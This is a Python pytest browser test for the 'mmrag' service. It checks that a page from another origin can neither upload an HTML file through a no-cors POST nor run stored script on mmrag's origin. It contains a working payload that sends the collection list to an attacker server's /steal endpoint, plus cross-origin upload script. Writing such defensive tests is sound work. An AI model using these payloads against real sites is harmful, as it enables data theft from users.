"""Another site's page in a real browser (Debian's Chromium driven by Playwright) attacks a
keyless mmrag on loopback, as an outside tester did: it uploads an HTML page with a no-cors
multipart POST (no CORS preflight needed), then navigates to the stored page's media URL
hoping its script runs on mmrag's origin and reads the collections. Both steps must fail."""

from __future__ import annotations

import hashlib
import os
import shutil
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

import httpx
import pytest

from tests.browser.serving import served_with_worker
from tests.conftest import make_settings
from tests.e2e.conftest import free_port

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

CHROMIUM = os.environ.get("MMRAG_TEST_CHROMIUM", "/usr/bin/chromium")


def evil_page(attacker: str) -> bytes:
    """An HTML page that, run on mmrag's origin, sends the collection list to ``attacker``."""
    return (
        "<!doctype html><html><body><script>"
        "fetch('/v1/collections').then((r) => r.text()).then((t) => {"
        f"  new Image().src = '{attacker}/steal?d=' + encodeURIComponent(t);"
        "  document.title = 'stolen';"
        "});</script></body></html>"
    ).encode()


ATTACK = """<!doctype html><html><body><script>
async function upload(api, html) {
  const form = new FormData();
  form.append("files", new Blob([html], { type: "text/html" }), "evil.html");
  await fetch(`${api}/v1/collections/victim/documents`,
              { mode: "no-cors", method: "POST", body: form });
  document.title = "uploaded";
}
</script></body></html>"""


class Attacker(NamedTuple):
    url: str
    stolen: list[str]


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    """The other origin: a plain web server on another loopback port serving the attack."""
    stolen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/steal"):
                stolen.append(self.path)
            body = ATTACK.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Attacker(f"http://127.0.0.1:{server.server_address[1]}", stolen)
    server.shutdown()


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A keyless mmrag on a loopback port with one real worker process."""
    settings = make_settings(tmp_path_factory.mktemp("xo") / "data")
    with served_with_worker(settings) as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not (shutil.which(CHROMIUM) or Path(CHROMIUM).is_file()):
        if os.environ.get("CI"):
            pytest.fail(f"no Chromium at {CHROMIUM} (CI is set, so browser tests must run)")
        pytest.skip(f"no Chromium at {CHROMIUM} (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as pw:
        found = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
        yield found
        found.close()


def wait_indexed(api: str, count: int) -> list[dict[str, Any]]:
    deadline = time.monotonic() + 90
    while True:
        docs: list[dict[str, Any]] = httpx.get(f"{api}/v1/collections/victim/documents").json()[
            "documents"
        ]
        if len(docs) >= count and all(d["status"] == "indexed" for d in docs):
            return docs
        assert time.monotonic() < deadline, docs
        time.sleep(0.2)


def test_another_origin_can_neither_upload_nor_run_a_stored_page(
    browser: Browser, api: str, attacker: Attacker
) -> None:
    httpx.post(f"{api}/v1/collections", json={"name": "victim"}).raise_for_status()
    # The navigation half on its own: an HTML page that did get stored (by a trusted client).
    stored = evil_page(attacker.url)
    files = [("files", ("stored.html", stored, "text/html"))]
    httpx.post(f"{api}/v1/collections/victim/documents", files=files).raise_for_status()
    wait_indexed(api, 1)

    page = browser.new_page()
    try:
        page.goto(f"{attacker.url}/attack.html")
        fresh = evil_page(attacker.url).replace(b"stolen", b"stolen again")
        page.evaluate("([api, html]) => upload(api, html)", [api, fresh.decode()])
        page.wait_for_function("document.title === 'uploaded'")  # the POST has been answered
        names = [d["filename"] for d in wait_indexed(api, 1)]
        assert names == ["stored.html"]  # the attacker's upload was refused

        media = f"{api}/v1/media/{hashlib.sha256(stored).hexdigest()}"
        with page.expect_download() as download:
            page.evaluate("(url) => { location.href = url; }", media)
        assert download.value.suggested_filename.endswith(".html")
        assert page.url.startswith(attacker.url)  # still the attacker's page: nothing ran
        assert page.title() == "uploaded" and attacker.stolen == []
    finally:
        page.close()
